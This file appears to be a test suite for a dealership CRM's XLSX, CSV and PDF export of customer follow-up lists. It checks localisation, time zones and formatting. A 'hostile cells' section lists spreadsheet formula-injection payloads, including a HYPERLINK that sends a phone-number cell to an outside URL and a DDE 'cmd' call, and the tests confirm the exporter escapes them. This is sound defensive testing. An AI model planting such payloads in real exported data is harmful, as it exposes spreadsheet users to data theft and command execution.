// The three export formats, opened again with a library as a user's program would: ExcelJS reads
// the .xlsx back, Papa Parse the .csv, PDF.js extracts the PDF's text.

import ExcelJS from 'exceljs';
import i18next from 'i18next';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ExportFilter } from '../../shared/sync/export-protocol';
import { zhCN } from '../i18n/zh-CN';
import type { TeamBoardRow } from '../db/team-board-queries';
import { buildCsv, buildCsvText } from './csv';
import {
  buildExportDocument,
  describeFilter,
  exportFileName,
  type ExportDocument,
  type Translate,
} from './export-table';
import { buildPdf, loadPdfMake, type PdfFonts } from './pdf';
import { pdfPagesText, readPdfFonts } from '../test-support/pdf-text';
import { buildXlsx } from './xlsx';

const SHANGHAI = 'Asia/Shanghai';
const TEAM = [
  { id: 'u-lina', name: '李娜' },
  { id: 'u-wang', name: '王磊' },
];

function row(overrides: Partial<TeamBoardRow>): TeamBoardRow {
  return {
    followUpId: `f-${Math.random().toString(36).slice(2)}`,
    customerId: `c-${Math.random().toString(36).slice(2)}`,
    customerName: '张伟',
    phone: '13800138000',
    ownerId: 'u-lina',
    ownerName: '李娜',
    dueAt: '2026-11-24T02:00:00.000Z',
    bucket: 'due_today',
    escalated: false,
    purpose: 'first_contact',
    channel: 'phone',
    grade: 'A',
    intent: 'H',
    source: 'walk_in',
    status: 'following',
    ...overrides,
  };
}

const ROWS: TeamBoardRow[] = [
  // 2026-11-20 09:30 in Shanghai: past due, escalated.
  row({
    customerName: '欧阳娜娜',
    dueAt: '2026-11-20T01:30:00.000Z',
    bucket: 'past_due',
    escalated: true,
    purpose: '回访报价, 问"金融方案"\n下周再约',
  }),
  // 10:00 in Shanghai.
  row({ customerName: '张伟', dueAt: '2026-11-24T02:00:00.000Z' }),
  // Just after midnight in Shanghai, still the previous day in UTC.
  row({
    customerName: '=HYPERLINK("x")',
    ownerId: 'u-wang',
    ownerName: '王磊',
    dueAt: '2026-11-25T16:05:00.000Z',
    bucket: 'upcoming',
    grade: 'N',
    intent: null,
    channel: 'wechat',
    source: 'referral',
    status: 'new',
  }),
  row({
    followUpId: null,
    customerName: '李雷',
    dueAt: null,
    bucket: 'no_plan',
    purpose: '',
    channel: null,
  }),
];

const FILTER: ExportFilter = {
  ownerIds: ['u-lina'],
  grades: ['A'],
  intents: [],
  sources: [],
  range: { from: '2026-10-24T16:00:00.000Z', to: '2026-12-01T16:00:00.000Z' },
  bucket: null,
};

let t: Translate;

beforeAll(async () => {
  const instance = i18next.createInstance();
  await instance.init({
    lng: 'zh-CN',
    resources: { 'zh-CN': { translation: zhCN } },
    interpolation: { escapeValue: false },
  });
  t = (key, options) => instance.t(key, options ?? {});
});

function documentOf(rows: readonly TeamBoardRow[]): ExportDocument {
  return buildExportDocument(
    {
      rows,
      filter: FILTER,
      team: TEAM,
      dealershipName: '星辰汽车 1 号店',
      exportedBy: '周经理',
      exportedAt: new Date('2026-11-24T01:15:00.000Z'),
      timeZone: SHANGHAI,
    },
    t,
  );
}

const HEADERS = [
  '到期时间',
  '分类',
  '客户',
  '电话',
  '顾问',
  '状态',
  '客户级别',
  '意向级别',
  '来源',
  '方式',
  '目的',
];

describe('the export table', () => {
  it('uses the board’s labels and localized values, in the board’s order', () => {
    const document = documentOf(ROWS);
    expect(document.columns.map((column) => column.header)).toEqual(HEADERS);
    expect(document.rows[0]).toEqual([
      '2026-11-20T01:30:00.000Z',
      '超时升级',
      '欧阳娜娜',
      '138 0013 8000',
      '李娜',
      '跟进中',
      'A 级',
      'H 级（7天内）',
      '到店',
      '电话',
      '回访报价, 问"金融方案"\n下周再约',
    ]);
    expect(document.rows[1]?.[10]).toBe('首次联系，确认需求');
    expect(document.rows[3]?.slice(0, 3)).toEqual([null, '无计划客户', '李雷']);
    expect(document.escalated).toEqual([true, false, false, false]);
  });

  it('describes the filters in words, with the last whole day of the range', () => {
    expect(describeFilter(FILTER, TEAM, t, SHANGHAI)).toBe(
      '顾问：李娜 · 客户级别：A 级 · 到期日期：2026-10-25 至 2026-12-01',
    );
    expect(
      describeFilter(
        {
          ...FILTER,
          ownerIds: [],
          grades: [],
          intents: ['H', 'A'],
          sources: ['event'],
          bucket: 'past_due',
        },
        TEAM,
        t,
        SHANGHAI,
      ),
    ).toBe(
      '顾问：全部 · 意向级别：H 级（7天内）、A 级（1个月内） · 来源：活动 / 车展 · 到期日期：2026-10-25 至 2026-12-01 · 分类：已逾期',
    );
  });

  it('names the file by title and local time, without path characters', () => {
    expect(exportFileName('跟进清单', 'xlsx', new Date('2026-11-24T01:15:00Z'), SHANGHAI)).toBe(
      '跟进清单-20261124-0915.xlsx',
    );
    expect(exportFileName('a/b:c', 'pdf', new Date('2026-11-24T01:15:00Z'), 'UTC')).toBe(
      'a_b_c-20261124-0115.pdf',
    );
  });
});

describe('xlsx', () => {
  it('reads back with the header, Chinese text, local due times as dates and widths', async () => {
    const bytes = await buildXlsx(documentOf(ROWS));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.slice().buffer);
    const sheet = workbook.getWorksheet('跟进清单');
    if (!sheet) throw new Error('no sheet 跟进清单');

    expect(sheet.rowCount).toBe(ROWS.length + 1);
    const header = sheet.getRow(1);
    expect(HEADERS.map((_, index) => header.getCell(index + 1).value)).toEqual(HEADERS);
    expect(header.font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });

    // Excel dates carry no time zone: the cell holds Shanghai's wall time.
    const due = sheet.getRow(2).getCell(1);
    expect(due.value).toEqual(new Date('2026-11-20T09:30:00.000Z'));
    expect(due.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(sheet.getRow(3).getCell(1).value).toEqual(new Date('2026-11-24T10:00:00.000Z'));
    expect(sheet.getRow(4).getCell(1).value).toEqual(new Date('2026-11-26T00:05:00.000Z'));
    // No plan: no date.
    expect(sheet.getRow(5).getCell(1).value).toBeNull();

    expect(sheet.getRow(2).getCell(3).value).toBe('欧阳娜娜');
    expect(sheet.getRow(2).getCell(2).value).toBe('超时升级');
    expect(sheet.getRow(2).getCell(11).value).toBe('回访报价, 问"金融方案"\n下周再约');
    // A name that looks like a formula stays text, and is escaped so that editing the cell in
    // Excel (or saving the sheet as .csv) cannot turn it into one.
    expect(sheet.getRow(4).getCell(3).value).toBe('\'=HYPERLINK("x")');
    expect(sheet.getRow(4).getCell(8).value).toBeNull();
    expect(sheet.getRow(5).getCell(2).value).toBe('无计划客户');

    const widths = sheet.columns.map((column) => column.width ?? 0);
    expect(widths[0]).toBeGreaterThanOrEqual(16);
    // The purpose column is wider than the channel column, and nothing is absurdly wide.
    expect(widths[10]).toBeGreaterThan(widths[9] ?? 0);
    expect(Math.max(...widths)).toBeLessThanOrEqual(50);

    const about = workbook.getWorksheet('导出信息');
    const aboutText = about?.getColumn(1).values.join('\n') ?? '';
    expect(aboutText).toContain('门店：星辰汽车 1 号店');
    expect(aboutText).toContain('顾问：李娜');
    expect(aboutText).toContain('导出时间：2026-11-24 09:15 · 导出人：周经理 · 共 4 条');
  });

  it('writes 10,000 rows', async () => {
    const many = Array.from({ length: 10_000 }, (_, index) =>
      row({
        customerName: `客户${index}`,
        dueAt: new Date(Date.parse('2026-11-01T00:00:00Z') + index * 60_000).toISOString(),
      }),
    );
    const progress: number[] = [];
    const bytes = await buildXlsx(documentOf(many), (ratio) => progress.push(ratio));
    expect(progress.at(-1)).toBe(1);
    expect(progress.length).toBeGreaterThan(5);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.slice().buffer);
    const sheet = workbook.getWorksheet('跟进清单');
    expect(sheet?.rowCount).toBe(10_001);
    expect(sheet?.getRow(10_001).getCell(3).value).toBe('客户9999');
    expect(sheet?.getRow(10_001).getCell(1).value).toEqual(
      new Date(Date.parse('2026-11-01T08:00:00Z') + 9_999 * 60_000),
    );
  }, 60_000);
});

describe('csv', () => {
  it('starts with a BOM, quotes per RFC 4180 and parses back to the same rows', () => {
    const bytes = buildCsv(documentOf(ROWS));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain('"回访报价, 问""金融方案""\n下周再约"');
    expect(text.slice(1).split('\r\n')[0]).toBe(HEADERS.join(','));

    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toEqual(HEADERS);
    expect(parsed.data).toHaveLength(ROWS.length + 1);
    expect(parsed.data[1]?.slice(0, 4)).toEqual([
      '2026-11-20 09:30',
      '超时升级',
      '欧阳娜娜',
      '138 0013 8000',
    ]);
    expect(parsed.data[1]?.[10]).toBe('回访报价, 问"金融方案"\n下周再约');
    expect(parsed.data[3]?.[0]).toBe('2026-11-26 00:05');
    // A spreadsheet must not run it as a formula.
    expect(parsed.data[3]?.[2]).toBe('\'=HYPERLINK("x")');
    expect(parsed.data[4]?.slice(0, 3)).toEqual(['', '无计划客户', '李雷']);
  });

  it('is the same text as buildCsvText', () => {
    const document = documentOf(ROWS);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(buildCsv(document))).toBe(
      buildCsvText(document),
    );
  });
});

// Names a customer could be given (by a colleague, or through an import) to attack whoever opens
// the export in a spreadsheet: each holds a formula at the start of the cell or of a line.
const HOSTILE_NAMES = [
  '=HYPERLINK("https://x/?d="&D2,"查看")\n',
  '=HYPERLINK("https://x/?d="&D2,"查看")\r\n张伟',
  '张伟\n=1+1',
  '张伟\r@SUM(1)',
  "张伟\u2028+cmd|' /C calc'!A0",
  '张伟\t-2+3',
  '\t=1+1',
  '\r=1+1',
  '-2+3',
  '@SUM(1)',
];
const HOSTILE_ROWS = HOSTILE_NAMES.map((customerName) => row({ customerName }));

/** True when some line (or tab-separated piece) of the cell starts a formula. */
function startsFormula(cell: string): boolean {
  return cell.split(/\r\n|[\r\n\t\u2028\u2029]/).some((line) => /^[=+\-@]/.test(line));
}

describe('hostile cells', () => {
  it('neutralises every line of every cell in the .csv', () => {
    const text = buildCsvText(documentOf(HOSTILE_ROWS));
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const names = parsed.data.slice(1).map((cells) => cells[2] ?? '');
    expect(names).toHaveLength(HOSTILE_NAMES.length);
    names.forEach((name, index) => {
      expect(startsFormula(name), JSON.stringify(name)).toBe(false);
      // Only apostrophes were added: the name is still all there.
      expect(name.replaceAll("'", '')).toBe(HOSTILE_NAMES[index]?.replaceAll("'", ''));
    });
  });

  it('neutralises every line of every cell in the .xlsx', async () => {
    const bytes = await buildXlsx(documentOf(HOSTILE_ROWS));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.slice().buffer);
    const sheet = workbook.getWorksheet('跟进清单');
    if (!sheet) throw new Error('no sheet 跟进清单');
    HOSTILE_NAMES.forEach((hostile, index) => {
      const cell = sheet.getRow(index + 2).getCell(3);
      expect(cell.formula).toBeUndefined();
      const value = cell.value;
      if (typeof value !== 'string') throw new Error(`not text: ${JSON.stringify(value)}`);
      expect(startsFormula(value), JSON.stringify(value)).toBe(false);
      // XML reads every CR LF and lone CR back as LF.
      const lineEnds = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll("'", '');
      expect(lineEnds(value)).toBe(lineEnds(hostile));
    });
  });
});

describe('pdf', () => {
  let fonts: PdfFonts;

  beforeAll(async () => {
    fonts = await readPdfFonts();
  });

  const pagesText = pdfPagesText;

  it('prints the title, details, Chinese names, local due times and page numbers', async () => {
    const bytes = await buildPdf(documentOf(ROWS), fonts, await loadPdfMake());
    expect(new TextDecoder().decode(bytes.slice(0, 5))).toBe('%PDF-');
    // The font is subset: far smaller than the 10 MB font file.
    expect(bytes.length).toBeLessThan(500_000);
    const [page, ...rest] = await pagesText(bytes);
    expect(rest).toEqual([]);
    expect(page).toContain('跟进清单');
    expect(page).toContain('门店：星辰汽车 1 号店');
    expect(page).toContain('到期日期：2026-10-25 至 2026-12-01');
    expect(page).toContain('共 4 条');
    for (const name of ['欧阳娜娜', '张伟', '李雷', '李娜', '王磊']) expect(page).toContain(name);
    expect(page).toContain('2026-11-20 09:30');
    expect(page).toContain('2026-11-26 00:05');
    expect(page).toContain('无计划客户');
    expect(page).toContain('第 1 / 1 页');
  }, 60_000);

  it('repeats the header row on every A4-landscape page', async () => {
    const many = Array.from({ length: 120 }, (_, index) => row({ customerName: `客户${index}` }));
    const progress: number[] = [];
    const bytes = await buildPdf(documentOf(many), fonts, await loadPdfMake(), (ratio) =>
      progress.push(ratio),
    );
    expect(progress.at(-1)).toBe(1);
    const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
    const pdf = await pdfjs.getDocument({ data: bytes.slice(), verbosity: 0 }).promise;
    const first = await pdf.getPage(1);
    const [, , width, height] = first.view;
    // A4 landscape: 842 × 595 points.
    expect(Math.round(width ?? 0)).toBe(842);
    expect(Math.round(height ?? 0)).toBe(595);

    const pages = await pagesText(bytes);
    expect(pages.length).toBeGreaterThan(1);
    pages.forEach((text, index) => {
      for (const header of ['到期时间', '客户', '顾问', '目的']) expect(text).toContain(header);
      expect(text).toContain(`第 ${index + 1} / ${pages.length} 页`);
    });
    const all = pages.join(' ');
    expect(all).toContain('客户0');
    expect(all).toContain('客户119');
  }, 60_000);
});
